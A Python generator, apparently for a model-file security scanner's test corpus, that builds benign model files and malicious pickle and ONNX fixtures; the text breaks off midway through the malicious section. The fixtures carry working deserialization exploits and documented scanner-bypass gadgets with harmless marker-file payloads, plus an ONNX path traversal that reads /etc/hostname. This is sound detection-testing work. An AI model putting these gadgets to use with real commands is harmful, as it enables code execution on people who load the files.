#!/usr/bin/python3
"""Generate bulwark's model-scanning corpus (issue 4).

Run:  /usr/bin/python3 tests/data/models/generate.py
Needs Debian's python3-torch python3-numpy python3-sklearn python3-joblib
python3-h5py python3-onnx python3-jinja2 (CI only uses the committed files).

Writes benign/*, malicious/* and expected.json next to this script.

Every malicious fixture carries a harmless payload: it creates an empty file
named ``bw-marker-<fixture>`` in the *current directory* of whoever loads it
(``touch`` or ``open(...,'w')``) and nothing else.  After writing a fixture the
generator PROVES it: it starts a fresh ``/usr/bin/python3`` subprocess whose
working directory is a new empty temporary directory, loads the file with the
real loader (pickle.load, torch.load(weights_only=False), joblib.load,
numpy.load(allow_pickle=True), onnx.load ...), checks that the marker appeared,
and removes the temporary directory.  A fixture whose payload does not run is
an error: the generator stops, so every committed malicious file is proven.
Benign files are loaded the same way and must leave no marker.
"""

import bz2
import collections
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
BENIGN = os.path.join(HERE, "benign")
MALICIOUS = os.path.join(HERE, "malicious")
PY = "/usr/bin/python3"
ZIP_DATE = (1980, 1, 1, 0, 0, 0)

EXPECTED = {}


def gguf_with_template(template):
    """A GGUF v3 file (the writer of tests/data/models-formats) with this chat template."""
    sys.path.insert(0, os.path.join(HERE, "..", "models-formats"))
    import make_fixtures as mf
    return mf.G(3).file([("general.architecture", mf.STR, "llama"), ("tokenizer.chat_template", mf.STR, template),
                         ("tokenizer.ggml.bos_token_id", mf.U32, 1)], [("token_embd.weight", [32, 2], "F32")])


# ---------------------------------------------------------------------------
# pickle opcode assembler (hand-written streams; no class needed at load time)
# ---------------------------------------------------------------------------

class Asm:
    """Tiny pickle assembler.  proto=None writes a protocol-0 text stream."""

    def __init__(self, proto=None, frame=False):
        self.proto = proto
        self.b = bytearray()
        self.frame = frame

    def raw(self, x):
        self.b += x
        return self

    def str(self, s):
        e = s.encode("utf-8")
        if self.proto is None or self.proto < 1:
            self.b += b"V" + s.encode("raw_unicode_escape") + b"\n"
        elif self.proto >= 4 and len(e) < 256:
            self.b += b"\x8c" + bytes([len(e)]) + e
        else:
            self.b += b"X" + struct.pack("<I", len(e)) + e
        return self

    def bytes(self, data):
        if self.proto is not None and self.proto >= 3:
            if len(data) < 256:
                self.b += b"C" + bytes([len(data)]) + data
            else:
                self.b += b"B" + struct.pack("<I", len(data)) + data
        else:
            raise ValueError("bytes need protocol >= 3")
        return self

    def int(self, n):
        if self.proto is None:
            self.b += b"I%d\n" % n
        else:
            self.b += b"J" + struct.pack("<i", n)
        return self

    def glob(self, mod, name):
        """GLOBAL for proto<4, STACK_GLOBAL for proto>=4."""
        if self.proto is not None and self.proto >= 4:
            self.str(mod).str(name).raw(b"\x93")
        else:
            self.b += b"c" + mod.encode() + b"\n" + name.encode() + b"\n"
        return self

    def textglobal(self, mod, name):
        self.b += b"c" + mod.encode() + b"\n" + name.encode() + b"\n"
        return self

    def mark(self):
        self.b += b"("
        return self

    def tuple(self):
        self.b += b"t"
        return self

    def tuple1(self):
        self.b += b"\x85" if self.proto and self.proto >= 2 else b"t"
        return self

    def reduce(self):
        self.b += b"R"
        return self

    def stop(self):
        self.b += b"."
        return self

    def done(self):
        body = bytes(self.b)
        if self.proto is None or self.proto < 2:
            return body
        head = b"\x80" + bytes([self.proto])
        if self.proto >= 4 and self.frame:
            head += b"\x95" + struct.pack("<Q", len(body))
        return head + body


def call1(proto, mod, name, arg, frame=True):
    """mod.name(arg) via GLOBAL/STACK_GLOBAL + REDUCE."""
    a = Asm(proto, frame)
    a.glob(mod, name)
    if proto is None:
        a.mark().str(arg).tuple()
    else:
        a.str(arg).tuple1()
    return a.reduce().stop().done()


def sh(name):
    return "touch bw-marker-%s" % name


def pycode(name):
    return "open('bw-marker-%s','w').close()" % name


# ---------------------------------------------------------------------------
# proof runner
# ---------------------------------------------------------------------------

GGUF_JINJA = "jinja2 render of the GGUF chat template (llama-cpp-python <= 0.2.71)"
GGUF_JINJA_CODE = r"""
import struct, sys, jinja2
b = open(sys.argv[1], 'rb').read()
assert b[:4] == b'GGUF' and struct.unpack_from('<I', b, 4)[0] in (2, 3)
nk = struct.unpack_from('<Q', b, 16)[0]
p = 24
SIZES = {0: 1, 1: 1, 2: 2, 3: 2, 4: 4, 5: 4, 6: 4, 7: 1, 10: 8, 11: 8, 12: 8}
def string():
    global p
    n = struct.unpack_from('<Q', b, p)[0]
    p += 8 + n
    return b[p - n:p].decode()
def value(t):
    global p
    if t == 8:
        return string()
    if t == 9:
        et, n = struct.unpack_from('<IQ', b, p)
        p += 12
        return [value(et) for _ in range(n)]
    p += SIZES[t]
    return None
meta = {}
for _ in range(nk):
    k = string()
    t = struct.unpack_from('<I', b, p)[0]
    p += 4
    meta[k] = value(t)
tmpl = meta['tokenizer.chat_template']
env = jinja2.Environment(loader=jinja2.BaseLoader())
env.from_string(tmpl).render(messages=[{'role': 'user', 'content': 'hi'}], add_generation_prompt=True,
                             bos_token='<s>', eos_token='</s>')
"""

LOADERS = {
    "pickle.load": "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",
    "torch.load": "import torch,sys; torch.load(sys.argv[1], weights_only=False)",
    "joblib.load": "import joblib,sys; joblib.load(sys.argv[1])",
    "numpy.load": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)",
    "numpy.load(npz)[member]":
        "import numpy,sys; z=numpy.load(sys.argv[1], allow_pickle=True); [z[k] for k in z.files]",
    "pickle.load after tar extraction":
        "import tarfile,pickle,sys; t=tarfile.open(sys.argv[1]); "
        "[pickle.load(t.extractfile(m)) for m in t.getmembers() if m.name.endswith('.pkl')]",
    "pickle.load after zip extraction":
        "import zipfile,pickle,sys; z=zipfile.ZipFile(sys.argv[1]); "
        "[pickle.loads(z.read(n)) for n in z.namelist() if n.endswith('.pkl')]",
    "pickle.load(gzip.open)": "import gzip,pickle,sys; pickle.load(gzip.open(sys.argv[1]))",
    # onnx: no code runs; the harness writes the marker iff onnx.load pulled the bytes of
    # /etc/hostname (outside the model's directory) into the tensor.
    # GGUF chat templates: llama-cpp-python up to 0.2.71 rendered tokenizer.chat_template with a plain
    # jinja2.Environment (CVE-2024-34359, "Llama Drama"). The loader reads the GGUF metadata itself
    # (the format's own layout, v2/v3) and renders the template that way, with one user message.
    GGUF_JINJA: GGUF_JINJA_CODE,
    "onnx.load": "import onnx,sys; m=onnx.load(sys.argv[1]); d=m.graph.initializer[0].raw_data; "
                 "t=open('/etc/hostname','rb').read(); "
                 "(d == t and len(t) > 0) and open(sys.argv[2],'w').close()",
}


def run_loader(loader, path, marker):
    """Load path with loader in a fresh temp cwd; return True if marker appeared."""
    tmp = tempfile.mkdtemp(prefix="bw-proof-")
    try:
        env = dict(os.environ, PYTHONDONTWRITEBYTECODE="1")
        p = subprocess.run([PY, "-c", LOADERS[loader], path, marker or ""], cwd=tmp, env=env,
                           stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, timeout=120)
        m = os.path.join(tmp, marker) if marker else None
        for _ in range(30):  # Popen-style payloads finish asynchronously
            if m and os.path.exists(m):
                return True, p
            if not marker:
                break
            time.sleep(0.1)
        left = os.listdir(tmp)
        if not marker and left:
            raise SystemExit("benign %s left files %s" % (path, left))
        return False, p
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def malicious(name, data, cls, what, loaders, source="", verdict="unsafe"):
    """Write malicious/<name>, prove it under each loader, record it."""
    path = os.path.join(MALICIOUS, name)
    write(path, data)
    marker = "bw-marker-" + name.split(".")[0]
    proven = []
    for ld in loaders:
        ok, p = run_loader(ld, path, marker)
        if not ok:
            sys.stderr.write(p.stderr.decode(errors="replace")[-1500:])
            raise SystemExit("PROOF FAILED: %s under %s" % (name, ld))
        proven.append(ld)
    rec = {"verdict": verdict, "why": what, "class": cls,
           "proves": "marker file written by " + " and by ".join(proven)}
    if source:
        rec["source"] = source
    EXPECTED["malicious/" + name] = rec
    print("  proven %-44s %s" % (name, ", ".join(proven)))


def benign(name, cls, what, loader=None, verdict="safe"):
    path = os.path.join(BENIGN, name)
    if loader:
        ok, p = run_loader(loader, path, None)
        if p.returncode != 0:
            sys.stderr.write(p.stderr.decode(errors="replace")[-1500:])
            raise SystemExit("benign %s does not load with %s" % (name, loader))
    EXPECTED["benign/" + name] = {"verdict": verdict, "why": what, "class": cls,
                                  "proves": ("loads cleanly with %s, no marker" % loader)
                                  if loader else "n/a"}


def zip_bytes(members, compress=zipfile.ZIP_STORED):
    """Deterministic zip: fixed dates, fixed order."""
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", compress) as z:
        for n, d in members:
            zi = zipfile.ZipInfo(n, date_time=ZIP_DATE)
            zi.compress_type = compress
            zi.external_attr = 0o644 << 16
            z.writestr(zi, d)
    return bio.getvalue()


def tar_bytes(members):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n, d in members:
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            ti.mtime = 0
            ti.mode = 0o644
            ti.uname = ti.gname = ""
            t.addfile(ti, io.BytesIO(d))
    return bio.getvalue()


# ---------------------------------------------------------------------------
# benign corpus
# ---------------------------------------------------------------------------

def make_benign():
    import numpy as np
    import torch
    import joblib
    import h5py
    import onnx
    from onnx import helper, TensorProto
    from sklearn.linear_model import LogisticRegression
    from sklearn.ensemble import RandomForestClassifier

    torch.manual_seed(0)
    rng = np.random.RandomState(0)

    # --- torch ---
    net = TinyNet()
    p = os.path.join(BENIGN, "torch_state_dict.pt")
    torch.save(net.state_dict(), p)
    benign("torch_state_dict.pt", "torch-zip",
           "torch.save(state_dict) zip: OrderedDict of tensors via torch._utils._rebuild_tensor_v2",
           "torch.load")
    p = os.path.join(BENIGN, "torch_legacy_state_dict.pt")
    torch.save(net.state_dict(), p, _use_new_zipfile_serialization=False)
    benign("torch_legacy_state_dict.pt", "torch-legacy",
           "torch.save(_use_new_zipfile_serialization=False): magic/protocol/sys_info pickles, "
           "state_dict pickle, storage keys pickle, raw storages", "torch.load")
    p = os.path.join(BENIGN, "torch_whole_module.pt")
    torch.save(net, p)
    benign("torch_whole_module.pt", "torch-zip",
           "torch.save(whole nn.Module): pickle references the user's class __main__.TinyNet "
           "and torch.nn module classes -- loading imports/instantiates user code, so it needs "
           "review even though nothing here is hostile", None, verdict="review")

    # --- numpy ---
    np.save(os.path.join(BENIGN, "numpy_float32.npy"), rng.rand(8, 4).astype(np.float32))
    benign("numpy_float32.npy", "numpy", "numeric .npy, no pickle", "numpy.load")
    np.save(os.path.join(BENIGN, "numpy_int64_fortran.npy"),
            np.asfortranarray(np.arange(24, dtype=np.int64).reshape(4, 6)))
    benign("numpy_int64_fortran.npy", "numpy", "numeric .npy, Fortran order", "numpy.load")
    members = []
    for k, arr in (("weights", rng.rand(5, 3)), ("bias", np.zeros(3, np.float16)),
                   ("labels", np.array([b"neg", b"pos"]))):
        bio = io.BytesIO()
        np.lib.format.write_array(bio, arr, allow_pickle=False)
        members.append((k + ".npy", bio.getvalue()))
    write(os.path.join(BENIGN, "numpy_arrays.npz"), zip_bytes(members))
    benign("numpy_arrays.npz", "numpy", "uncompressed .npz of numeric and bytes arrays",
           "numpy.load(npz)[member]")
    write(os.path.join(BENIGN, "numpy_arrays_deflate.npz"),
          zip_bytes(members, zipfile.ZIP_DEFLATED))
    benign("numpy_arrays_deflate.npz", "numpy", "np.savez_compressed layout (deflate members)",
           "numpy.load(npz)[member]")

    # --- scikit-learn via joblib ---
    X = rng.rand(40, 4)
    y = (X[:, 0] + X[:, 1] > 1).astype(int)
    lr = LogisticRegression(random_state=0).fit(X, y)
    rf = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
    for nm, est in (("logreg", lr), ("rf", rf)):
        joblib.dump(est, os.path.join(BENIGN, "sklearn_%s.joblib" % nm))
        benign("sklearn_%s.joblib" % nm, "joblib",
               "joblib.dump(%s) uncompressed: sklearn estimator + NumpyArrayWrapper with raw array "
               "bytes inline in the pickle stream" % type(est).__name__, "joblib.load")
        joblib.dump(est, os.path.join(BENIGN, "sklearn_%s_z3.joblib" % nm), compress=3)
        benign("sklearn_%s_z3.joblib" % nm, "joblib",
               "joblib.dump(%s, compress=3): whole stream is one raw zlib stream (0x78 0x5e header), "
               "no joblib prefix" % type(est).__name__, "joblib.load")
    with open(os.path.join(BENIGN, "sklearn_logreg.pkl"), "wb") as f:
        pickle.dump(lr, f, protocol=4)
    benign("sklearn_logreg.pkl", "pickle", "plain pickle.dump of a LogisticRegression "
           "(numpy _reconstruct / dtype / sklearn class globals)", "pickle.load")

    # --- plain pickles, every protocol ---
    obj = {"name": "readmit", "version": 3, "threshold": 0.5, "flags": [True, False, None],
           "shape": (4, 2), "blob": b"\x00\x01\xff", "big": 2 ** 70, "neg": -7,
           "nested": {"a": [1.5, -2.25, float("inf")], "b": "\u00e9t\u00e9"},
           "tags": {"x", "y"}, "frozen": frozenset([1]), "cplx": 1 + 2j,
           "ordered": collections.OrderedDict([("k", 1)])}
    for proto in range(0, 6):
        with open(os.path.join(BENIGN, "plain_p%d.pkl" % proto), "wb") as f:
            pickle.dump(obj, f, protocol=proto)
        benign("plain_p%d.pkl" % proto, "pickle",
               "dict/list/tuple/set/frozenset/complex/OrderedDict at protocol %d "
               "(set/frozenset/complex/OrderedDict/bytes are REDUCEs of builtins, collections "
               "or _codecs.encode at low protocols)" % proto, "pickle.load")
    with open(os.path.join(BENIGN, "plain_list_p2.pkl"), "wb") as f:
        pickle.dump([list(range(10)), [0.1 * i for i in range(5)]], f, protocol=2)
    benign("plain_list_p2.pkl", "pickle", "list of lists at protocol 2", "pickle.load")

    # --- h5py ---
    with h5py.File(os.path.join(BENIGN, "weights.h5"), "w", track_order=True) as f:
        g = f.create_group("dense")
        g.create_dataset("kernel", data=rng.rand(4, 3).astype(np.float32), track_times=False)
        g.create_dataset("bias", data=np.zeros(3, np.float32), track_times=False)
        g.attrs["units"] = 3
    benign("weights.h5", "hdf5", "HDF5 with a group, two datasets and an attribute", None)

    # --- onnx ---
    W = helper.make_tensor("W", TensorProto.FLOAT, [4, 3], rng.rand(12).astype(np.float32).tolist())
    B = helper.make_tensor("B", TensorProto.FLOAT, [3], [0.0, 0.1, 0.2])
    graph = helper.make_graph(
        [helper.make_node("Gemm", ["X", "W", "B"], ["Y"]),
         helper.make_node("Sigmoid", ["Y"], ["P"])], "tiny",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("P", TensorProto.FLOAT, [1, 3])], [W, B])
    model = helper.make_model(graph, producer_name="bulwark-corpus",
                              opset_imports=[helper.make_opsetid("", 13)])
    onnx.checker.check_model(model)
    onnx.save(model, os.path.join(BENIGN, "tiny.onnx"))
    benign("tiny.onnx", "onnx", "Gemm+Sigmoid, initializers inline", None)

    chatml = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
              "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
              "{% endif %}")
    write(os.path.join(BENIGN, "chatml.gguf"), gguf_with_template(chatml))
    benign("chatml.gguf", "gguf", "GGUF v3 with a ChatML chat template and one F32 tensor", GGUF_JINJA)

    # --- the project's own example (referenced, not copied) ---
    EXPECTED["../../../examples/readmission/model/readmission_model.pkl"] = {
        "verdict": "safe", "class": "pickle",
        "why": "examples/readmission model: protocol-4 pickle of plain dicts/lists/floats, no globals",
        "proves": "n/a (referenced in place)"}


class TinyNet(__import__("torch").nn.Module):
    def __init__(self):
        import torch
        super().__init__()
        self.fc1 = torch.nn.Linear(4, 8)
        self.fc2 = torch.nn.Linear(8, 2)

    def forward(self, x):
        return self.fc2(self.fc1(x).relu())


# ---------------------------------------------------------------------------
# malicious corpus
# ---------------------------------------------------------------------------

class Sys:
    """__reduce__ -> os.system(cmd); pickles as 'posix system' on Linux."""

    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return os.system, (self.cmd,)


def p_getattr_chain(name, proto=4):
    """builtins.getattr(builtins.__import__('os'), 'system')(cmd)"""
    a = Asm(proto, True)
    a.glob("builtins", "getattr").mark()
    a.glob("builtins", "__import__").str("os").tuple1().reduce()
    a.str("system").tuple().reduce()
    a.str(sh(name)).tuple1().reduce().stop()
    return a.done()


def torch_zip_members(path):
    with zipfile.ZipFile(path) as z:
        return [(n, z.read(n)) for n in z.namelist()]


def replace_member(members, suffix, data):
    return [(n, data if n.endswith(suffix) else d) for n, d in members]


def zip_local_header_offset(zbytes, name):
    z = zipfile.ZipFile(io.BytesIO(zbytes))
    return z.getinfo(name).header_offset


DROPPED = []


def zip_bytes_from(zdata):
    with zipfile.ZipFile(io.BytesIO(zdata)) as z:
        return [(n, z.read(n)) for n in z.namelist()]


def patch_zip_entry(z, suffix, crc=None, local_name_tail=None, flag_or=0):
    """Patch the entry whose name ends with suffix in local and central headers."""
    z = bytearray(z)
    info = [i for i in zipfile.ZipFile(io.BytesIO(bytes(z))).infolist() if i.filename.endswith(suffix)][0]
    lh = info.header_offset
    assert z[lh:lh + 4] == b"PK\x03\x04"
    name = info.filename.encode()
    cd = z.find(b"PK\x01\x02")
    while cd >= 0:
        nlen = struct.unpack_from("<H", z, cd + 28)[0]
        if z[cd + 46:cd + 46 + nlen] == name:
            break
        cd = z.find(b"PK\x01\x02", cd + 4)
    assert cd >= 0
    if crc is not None:
        struct.pack_into("<I", z, lh + 14, crc)
        struct.pack_into("<I", z, cd + 16, crc)
    if flag_or:
        struct.pack_into("<H", z, lh + 6, struct.unpack_from("<H", z, lh + 6)[0] | flag_or)
        struct.pack_into("<H", z, cd + 8, struct.unpack_from("<H", z, cd + 8)[0] | flag_or)
        if flag_or & 0x0008:  # sizes/CRC "in a data descriptor": local header says 0
            struct.pack_into("<III", z, lh + 14, 0, 0, 0)
    if local_name_tail:
        z[lh + 30 + len(name) - len(local_name_tail):lh + 30 + len(name)] = local_name_tail
    return bytes(z)


def try_prove(data, name, loader):
    fd, path = tempfile.mkstemp(prefix="bw-try-")
    os.close(fd)
    try:
        write(path, data)
        return run_loader(loader, path, "bw-marker-" + name)[0]
    finally:
        os.unlink(path)


def make_onnx_traversal():
    import onnx
    from onnx import helper, TensorProto
    # Debian's onnx 1.12 strips leading '/' and '.' (_sanitize_path), so '/etc/hostname' and
    # '../../etc/hostname' are NOT read by it (dropped, see README); a '..' after a first
    # component still escapes -- if that component exists, so the fixture ships the
    # (otherwise empty) directory malicious/onnx_external_data/ next to the model, as a model
    # repository with a data subdirectory would.
    sub = os.path.join(MALICIOUS, "onnx_external_data")
    os.makedirs(sub, exist_ok=True)
    write(os.path.join(sub, "README"), b"directory the ONNX traversal fixture walks up from; "
          b"not a model\n")
    for n, loc, what in (
            ("onnx_external_data_traversal", "onnx_external_data/" + "../" * 17 + "etc/hostname",
             "initializer stored as external data at 'onnx_external_data/../..(x17)/etc/hostname': "
             "onnx.load strips only leading '/' and '.', joins the rest to the model directory "
             "and reads a file outside it"),):
        t = TensorProto()
        t.name = "W"
        t.data_type = TensorProto.UINT8
        t.dims.append(1)
        t.data_location = TensorProto.EXTERNAL
        e = t.external_data.add()
        e.key, e.value = "location", loc
        graph = helper.make_graph([helper.make_node("Identity", ["W"], ["Y"])], "exfil", [],
                                  [helper.make_tensor_value_info("Y", TensorProto.UINT8, [1])], [t])
        model = helper.make_model(graph, producer_name="bulwark-corpus",
                                  opset_imports=[helper.make_opsetid("", 13)])
        malicious(n + ".onnx", model.SerializeToString(), "onnx",
                  what + " (arbitrary file read, CVE-2022-25882 class; Debian onnx %s)" % onnx.__version__,
                  ["onnx.load"], "onnx: CVE-2022-25882 (external_data path traversal), "
                  "CVE-2024-27318 (bypass of its fix)")


def make_malicious():
    import numpy as np
    import torch
    import joblib

    M = malicious
    P = "pickle.load"
    PS = "picklescan"
    MS = "modelscan"
    FK = "fickling"

    # ---- 1. direct dangerous callables, every protocol -------------------
    for proto, tag in ((None, "p0"), (2, "p2"), (4, "p4"), (5, "p5")):
        n = "os_system_%s" % tag
        M(n + ".pkl", call1(proto, "os", "system", sh(n)), "pickle",
          "GLOBAL/STACK_GLOBAL os.system + REDUCE at protocol %s" % tag[1:], [P])
    n = "posix_system_p4"
    M(n + ".pkl", pickle.dumps(Sys(sh(n)), protocol=4), "pickle",
      "what pickle.dumps writes for a __reduce__ returning os.system on Linux: posix.system", [P])
    n = "subprocess_popen_p2"
    a = Asm(2)
    a.glob("subprocess", "Popen").mark().raw(b"]").mark().str("touch").str("bw-marker-" + n)
    a.raw(b"e").tuple().reduce().stop()
    M(n + ".pkl", a.done(), "pickle", "subprocess.Popen(['touch', ...]) via REDUCE, protocol 2", [P])
    n = "subprocess_getoutput_p0"
    M(n + ".pkl", call1(None, "subprocess", "getoutput", sh(n)), "pickle",
      "subprocess.getoutput(cmd) at protocol 0", [P])
    for proto, tag, fn in ((2, "p2", "eval"), (4, "p4", "exec"), (5, "p5", "exec"), (None, "p0", "eval")):
        n = "builtins_%s_%s" % (fn, tag)
        code = ("__import__('os').system('%s')" % sh(n))
        M(n + ".pkl", call1(proto, "builtins", fn, code), "pickle",
          "builtins.%s(<python source>) at protocol %s" % (fn, tag[1:]), [P])
    n = "builtin_py2name_eval_p0"
    M(n + ".pkl", call1(None, "__builtin__", "eval", "__import__('os').system('%s')" % sh(n)),
      "pickle", "Python-2 module name __builtin__.eval at protocol 0; Unpickler(fix_imports=True) "
      "maps it to builtins.eval (also the name a protocol-0/1/2 dump of builtins writes)", [P])
    for proto, tag in ((2, "p2"), (4, "p4")):
        n = "builtins_import_getattr_%s" % tag
        M(n + ".pkl", p_getattr_chain(n, proto), "pickle",
          "getattr-chain gadget: builtins.getattr(builtins.__import__('os'),'system')(cmd)", [P])

    # ---- 2. opcode-level tricks ------------------------------------------
    n = "inst_opcode_p0"
    a = Asm(None).mark().str(sh(n)).raw(b"ios\nsystem\n").stop()
    M(n + ".pkl", a.done(), "pickle",
      "INST opcode ('i' os system): calls the class/callable without any REDUCE", [P],
      "fickling PR 108 (pty.spawn via OBJ)")
    n = "obj_opcode_p1"
    a = Asm(None).mark().textglobal("os", "system").str(sh(n)).raw(b"o").stop()
    M(n + ".pkl", a.done(), "pickle", "OBJ opcode ('o'): MARK callable args OBJ, no REDUCE", [P],
      FK + ": 'Add pty to unsafeimports' (PR 108) used OBJ")
    n = "stack_global_memo_p4"
    a = Asm(4, True)
    a.str("os").raw(b"\x94").str("system").raw(b"\x94").str(sh(n)).raw(b"\x94\x30")  # POP
    a.raw(b"h\x00h\x01\x93").raw(b"h\x02\x85R").stop()
    M(n + ".pkl", a.done(), "pickle",
      "STACK_GLOBAL whose module/name strings were MEMOIZEd earlier and fetched with BINGET", [P])
    n = "memo_confusion_put_memoize"
    a = Asm(4)
    a.str("os").raw(b"q\x00").str("system").raw(b"q\x01")          # BINPUT 0, 1
    a.raw(b"00")                                                     # POP POP
    a.str("torch._utils").raw(b"\x94").str("_rebuild_tensor_v2").raw(b"\x94").raw(b"00")
    a.raw(b"h\x00h\x01\x93").str(sh(n)).raw(b"\x85R").stop()
    M(n + ".pkl", a.done(), "pickle",
      "mixes BINPUT and MEMOIZE so a scanner that only counts MEMOIZE thinks memo[0..1] = "
      "torch._utils/_rebuild_tensor_v2; STACK_GLOBAL really gets os/system", [P],
      PS + ": 'Dangerous global detection bypass with memo dict confusion' (issue 14); "
      "'Possible vulnerability in picklescan==0.0.12' (issue 22, STACK_GLOBAL memo)")
    n = "dotted_name_pathlib_os_system"
    a = Asm(4, True).glob("pathlib", "os.system").str(sh(n)).tuple1().reduce().stop()
    M(n + ".pkl", a.done(), "pickle",
      "protocol>=4 find_class resolves dotted names by getattr chain: pathlib + 'os.system' "
      "is os.system though the module is 'pathlib'", [P],
      MS + ": 'Pickle safety checker does not consider loaded globals with \"safe\" modules' (issue 89)")
    n = "dotted_name_builtins_dunder"
    a = Asm(4, True).glob("builtins", "getattr.__self__.exec")
    a.str(pycode(n)).tuple1().reduce().stop()
    M(n + ".pkl", a.done(), "pickle",
      "dotted attribute walk through dunders from an allow-listed module: "
      "builtins 'getattr.__self__.exec' is exec", [P],
      MS + ": 'Multiple False Negative Issues' (issue 338, introspection chain)")
    n = "dotted_text_global_p4"
    a = Asm(4).textglobal("os", "path.os.system").str(sh(n)).tuple1().reduce().stop()
    M(n + ".pkl", a.done(), "pickle",
      "text GLOBAL 'os path.os.system' inside a protocol-4 stream (dotted lookup applies to "
      "GLOBAL too once PROTO>=4)", [P])
    n = "build_setattr_indirection"
    a = Asm(5)
    a.glob("textwrap", "dedent").raw(b"N").mark().str("bw_a").str("os").str("bw_b").str("system")
    a.raw(b"d\x86b0")                                 # DICT TUPLE2 BUILD POP
    a.glob("textwrap", "dedent.bw_a").raw(b"\x94").glob("textwrap", "dedent.bw_b").raw(b"\x94")
    a.raw(b"00h\x00h\x01\x93").str(sh(n)).raw(b"\x85R").stop()
    M(n + ".pkl", a.done(), "pickle",
      "BUILD with slot-state setattr()s strings onto textwrap.dedent, dotted GLOBALs read them "
      "back, STACK_GLOBAL turns them into os.system: no dangerous name is a literal next to "
      "STACK_GLOBAL", [P], MS + ": 'Malicious pickle has no issues detected' (issue 85)")
    n = "numpy_builtins_dict"
    a = Asm(5).glob("builtins", "dict.get").mark().glob("numpy", "__builtins__").str("exec").tuple()
    a.reduce().str(pycode(n)).tuple1().reduce().stop()
    M(n + ".pkl", a.done(), "pickle",
      "numpy.__builtins__ (a dict) + builtins dict.get -> exec: only 'numpy' and 'builtins dict.get'", [P],
      MS + ": 'Pickle safety checker does not consider loaded globals with \"safe\" modules' (issue 89); "
      "'[BUG] Security Vulnerability' (issue 330, numpy allowlist)")
    n = "payload_then_bad_opcode"
    M(n + ".pkl", call1(2, "os", "system", sh(n))[:-1] + b"\xff.", "pickle",
      "payload REDUCE followed by an invalid opcode: pickle.load raises UnpicklingError AFTER "
      "running the payload (a scanner that gives up on parse errors must still say unsafe)", [P],
      PS + ": 'Pickle parsing logic flaw leads to malicious pickle file bypass' (GHSA-9gvj-pp9x-gcfr)")
    n = "payload_no_stop"
    M(n + ".pkl", call1(2, "os", "system", sh(n))[:-1], "pickle",
      "truncated stream: no STOP opcode; the payload already ran when pickle.load hits EOF", [P])

    # ---- 3. stdlib gadgets from scanner advisories -----------------------
    n = "operator_attrgetter"
    a = Asm(4, True).glob("operator", "attrgetter").str("system").tuple1().reduce()
    a.mark().glob("builtins", "__import__").str("os").tuple1().reduce().tuple().reduce()
    a.str(sh(n)).tuple1().reduce().stop()
    M(n + ".pkl", a.done(), "pickle",
      "operator.attrgetter('system')(__import__('os'))(cmd)", [P],
      PS + ": GHSA-m273-6v24-x4m4 / GHSA-955r-x9j8-7rhh (operator/_operator gadgets); " +
      FK + " PR 210")
    n = "operator_methodcaller"
    a = Asm(4, True).glob("_operator", "methodcaller").mark().str("system").str(sh(n)).tuple().reduce()
    a.mark().glob("builtins", "__import__").str("os").tuple1().reduce().tuple().reduce().stop()
    M(n + ".pkl", a.done(), "pickle",
      "_operator.methodcaller('system', cmd)(__import__('os')) -- the C module name", [P],
      PS + ": GHSA-m273-6v24-x4m4; " + FK + " PR 210")
    n = "importlib_import_module"
    a = Asm(4, True).glob("builtins", "getattr").mark()
    a.glob("importlib", "import_module").str("os").tuple1().reduce()
    a.str("system").tuple().reduce().str(sh(n)).tuple1().reduce().stop()
    M(n + ".pkl", a.done(), "pickle", "importlib.import_module('os') + getattr -> os.system", [P],
      PS + ": 'Architectural follow-up to GHSA-vvpj-8cmc-gx39' (issue 66); "
      "'security: add importlib and marshal to _unsafe_globals blocklist' (PR 74); " +
      MS + " issue 331")
    n = "pkgutil_resolve_name"
    a = Asm(4, True).glob("pkgutil", "resolve_name").str("os:system").tuple1().reduce()
    a.str(sh(n)).tuple1().reduce().stop()
    M(n + ".pkl", a.done(), "pickle", "pkgutil.resolve_name('os:system')(cmd): universal indirection",
      [P], PS + ": GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name)")
    n = "functools_partial"
    a = Asm(4, True).glob("functools", "partial").mark().glob("os", "system").str(sh(n)).tuple()
    a.reduce().raw(b")R").stop()
    M(n + ".pkl", a.done(), "pickle", "functools.partial(os.system, cmd)() -- wrapper then call", [P],
      FK + ": PR 210 (functools.partial wrapper bypass)")
    n = "timeit_timeit"
    a = Asm(4, True).glob("timeit", "timeit").mark().str("").str(
        "__import__('os').system('%s')" % sh(n)).tuple().reduce().stop()
    M(n + ".pkl", a.done(), "pickle", "timeit.timeit('', setup=<python source>): setup is exec'd",
      [P], MS + ": '[BUG] Missing built-in python library function timeit.timeit()' (issue 272); " +
      PS + ": GHSA-v7x6-rv5q-mhwc")
    n = "cprofile_run"
    M(n + ".pkl", call1(2, "cProfile", "run", pycode(n)), "pickle",
      "cProfile.run(<python source>) execs it in __main__", [P],
      PS + ": 'Missing detection when calling Python functions' (PR 49: cProfile.runctx, GHSA-9w88-8rmg-7g2p)")
    n = "cprofile_runctx"
    a = Asm(4, True).glob("cProfile", "runctx").mark().str(pycode(n)).raw(b"}}").tuple().reduce().stop()
    M(n + ".pkl", a.done(), "pickle", "cProfile.runctx(src, {}, {})", [P],
      PS + ": GHSA-9w88-8rmg-7g2p")
    n = "profile_run"
    M(n + ".pkl", call1(4, "profile", "run", pycode(n)), "pickle",
      "profile.run(<python source>)", [P], PS + ": GHSA-46h3-79wf-xr6c; " + FK + " PR 210")
    n = "runpy_run_code"
